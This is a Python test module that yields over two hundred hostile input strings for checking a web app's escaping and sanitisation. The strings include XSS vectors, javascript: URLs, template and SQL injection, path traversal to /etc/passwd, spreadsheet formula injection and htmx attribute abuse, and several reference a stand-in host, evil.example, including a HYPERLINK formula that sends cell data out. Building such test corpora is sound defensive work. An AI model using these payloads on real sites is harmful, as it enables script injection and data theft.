"""Two hundred texts that untrusted input could put into a post, an account or an error to break a
page.

All were written for this project. A text that runs as a script calls ``alert`` or sets
``window.hostile``: a test sees both.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from itertools import product

RUN = "alert(document.domain)"
SET = "window.hostile=1"
LONG = 10_000  # characters

# Scripts that would run where text is treated as markup.
_ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//evil.example/x.js>{SET}</SCRIPT>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{SET}' alt=\"",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<svg><a href="javascript:{RUN}"><text y=20>click</text></a></svg>',
    (
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image"
        " href='x' onerror='alert(1)'/></svg>#x\"></svg>"
    ),
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    (
        "<math><mtext><table><mglyph><style><img src=x"
        f" onerror={RUN}></style></mglyph></table></mtext></math>"
    ),
    f'<iframe srcdoc="<script>parent.{SET}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="data:text/html,<script>{RUN}</script>">',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f'<a href="javascript:{RUN}">press me</a>',
    f'<form action="javascript:{RUN}"><button>press me</button></form>',
    f'<button formaction="javascript:{RUN}">press me</button>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<style>@import url(https://evil.example/x.css);</style>",
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f'<?xml version="1.0"?><script>{RUN}</script>',
    f"<x-y onclick={RUN} tabindex=1>x</x-y>",
    f"<p popover id=p onbeforetoggle={RUN}>x</p><button popovertarget=p>x</button>",
    f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>",
    f'<div style="position:fixed;inset:0;z-index:99;background:red" onclick={RUN}></div>',
    f"<img/src=`x`onerror={RUN}>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x:x\tonerror\n=\n{RUN}>",
    '<img src=x onerror="&#97;lert(1)">',
    f"<picture><img srcset=x onerror={RUN}></picture>",
    f"<track src=x onerror={RUN}>",
    f'<portal src="javascript:{RUN}"></portal>',
    f"<isindex type=image src=1 onerror={RUN}>",
)
# Texts that would end the attribute, script, comment or element that contains them.
_WAYS_OUT = (
    '"',
    "'",
    '">',
    "'>",
    "`",
    "--></",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</bdi></p>",
    "]]>",
    "*/",
)
_WAYS_IN = (
    f"<img src=x onerror={RUN}>",
    f" onmouseover={RUN} autofocus onfocus={RUN} x=",
    f";{SET};//",
)
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://videos.example/%0a{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/path",
    "/\\evil.example",
    "https://user:pass@evil.example/<b>",
    'https://videos.example/?q="><svg onload=alert(1)>',
    "https://videos.example/#'-alert(1)-'",
    "file:///etc/passwd",
    "blob:https://videos.example/x",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "[[${7*7}]]",
    "%(site)s %(nobody)s %s %d",
    "{site} {0} {nobody!r:>10}",
)
_SCRIPT_STRINGS = (
    f"';{RUN};'",
    f'";{RUN};"',
    f'\\";{RUN};//',
    f"\\';{RUN};//",
    f"`-{RUN}-`",
    f"${{{RUN}}}",
    f"\u2028{RUN}\u2029",
    f"</script><script>{RUN}</script>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={RUN}\\x3e",
    '{"__proto__": {"hostile": 1}}',
    "constructor",
    "__proto__",
    "toString",
)
_STYLES = (
    "red;background:url(https://evil.example/x)",
    "}body{display:none}",
    "</style><style>*{display:none}",
    "expression(alert(1))",
    "url(javascript:alert(1))",
    "@import 'https://evil.example/x.css';",
)
_HTMX = (
    "<div hx-get=/jobs hx-trigger=load hx-target=body>x</div>",
    "<div hx-post=/logout hx-trigger=load>x</div>",
    f'<div hx-on::load="{RUN}">x</div>',
    f'<div hx-on:click="{RUN}" autofocus tabindex=0>x</div>',
    f'<div data-hx-on--load="{SET}">x</div>',
    f"<div hx-vals='js:{{x: {RUN}}}' hx-get=/ hx-trigger=load>x</div>",
    "<div hx-ext=evil hx-get=https://evil.example/ hx-trigger=load>x</div>",
    '<div hx-swap-oob="innerHTML:body">x</div>',
    "<main id=main hx-swap-oob=true>gone</main>",
    '" hx-get="/jobs" hx-trigger="load',
    '" data-ask="" data-action="remove" x="',
    '" data-moment="2999-01-01T00:00:00Z" data-job="x" x="',
    '" data-field="title" id="messages" x="',
    "<form data-action=remove action=/jobs/x/remove><button autofocus>x</button></form>",
    '<time datetime="never" data-field="created">x</time>',
    "<template id=row><li>gone</li></template>",
    "<select data-submits><option>x</option></select>",
)
_FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"press me")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
)
_WRITING = (
    "\u202egnp.exe\u202c harmless",
    "\u2066\u2067\u2068 isolates that never end",
    "\u200f\u200e\u061c marks",
    "abc \u202d\u202e\u202d\u202e def",
    "zero\u200bwidth\u200cjoin\u200ders\ufeff",
    "\u2060\u2061\u2062\u2063 unseen \u3164\u115f\u1160",
    "Z\u0351\u036b\u0343\u0363\u0348\u0346a\u034a\u0350\u0302\u0365l\u036a\u0316\u0323g\u0352\u0305o"
    + "\u0336\u0347\u0310" * 40,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 12,
    (
        "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f and"
        " \U0001f1e9\U0001f1ea"
    ),
    "\U0001f937\U0001f3fd\u200d\u2640\ufe0f " * 20,
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 and English \u05e2\u05d1\u05e8\u05d9\u05ea 123",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\ufdfd \ufdfa " * 12,
    "\u0e01\u0e33\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49",
    "\U00012219 \U0001242b \u2e3b " * 8,
    "\ufffd\ufffe\uffff noncharacters",
    "\x1b[31mred\x1b[0m and \x07 and \x08\x08\x08",
    "tab\tnew\nline\r\nand\x0bothers\x0c\x85\u2028\u2029",
    "null",
    "undefined",
    "NaN",
    "None",
    "[object Object]",
    "%00\\0\\x00&#0;&#x0;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;b&amp;gt; &nbsp; &copy &#x3c;",
    "0",
    "-1e999",
    "' OR 1=1 --",
    '"; DROP TABLE jobs; --',
    "<b>clip</b> \" & ' <final>.mp4",
    "CON.mp4<img src=x onerror=alert(1)>.jpg",
)
_SIZES = (
    "W" * LONG,
    "<" * LONG,
    ("word " * (LONG // 5)),
    "\u202e" * 100 + "x" * (LONG - 100),
    "a\u0301" * (LONG // 2),
    "\U0001f4a5" * LONG,
    "https://videos.example/" + "a" * LONG,
    f"<img src=x onerror={RUN}>" * (LONG // 40),
    "\u6587" * LONG,
    "&" * LONG,
)


def payloads() -> Sequence[str]:
    """Return somewhat more than two hundred different texts, always the same."""
    return tuple(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from (
        *_ELEMENTS,
        *_ADDRESSES,
        *_TEMPLATES,
        *_SCRIPT_STRINGS,
        *_STYLES,
        *_HTMX,
        *_FORMULAS,
        *_WRITING,
        *_SIZES,
    )
    yield from (way_out + way_in for way_out, way_in in product(_WAYS_OUT, _WAYS_IN))
